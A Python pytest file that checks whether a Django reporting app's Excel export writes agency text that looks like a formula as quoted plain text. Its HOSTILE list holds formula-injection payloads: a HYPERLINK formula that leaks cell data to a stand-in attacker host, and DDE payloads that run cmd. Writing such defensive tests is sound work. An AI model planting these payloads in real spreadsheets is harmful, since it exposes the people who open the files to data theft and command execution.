"""Formula injection: an agency's text that looks like a formula stays text in its form."""

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from dxtrack.reporting import selectors
from dxtrack.reporting.excel_form import LEAD_SHEET
from dxtrack.reporting.excel_form_writer import form_build
from dxtrack.reporting.models import IndicatorValue, TaskUpdate
from reporting.sample import reporting_sample

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://tan-cong.example/?d="&A1,"Xem minh chứng")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_text_that_looks_like_a_formula_is_written_as_text_never_a_formula():
    sample = reporting_sample()
    report = sample.report
    updates = list(TaskUpdate.objects.filter(report=report).order_by("pk"))
    for update, text in zip(updates, HOSTILE, strict=False):
        update.description = text
        update.evidence = text
        update.save()
    IndicatorValue.objects.filter(report=report).update(note=HOSTILE[0], value_text=HOSTILE[2])
    detail = selectors.report_detail(period_id=report.period_id, agency_id=report.agency_id)

    data = form_build(detail=detail)

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(re.search(r"<f[ >]", archive.read(n).decode()) for n in sheets)
    workbook = load_workbook(io.BytesIO(data))
    written = {
        cell.value: cell
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for text in [*HOSTILE[: len(updates)], HOSTILE[0], HOSTILE[2]]:
        assert text in written, text
        assert written[text].data_type == "s"
        # Shown with Excel's quote prefix: editing the cell keeps it text.
        assert written[text].quotePrefix
    assert LEAD_SHEET in workbook.sheetnames
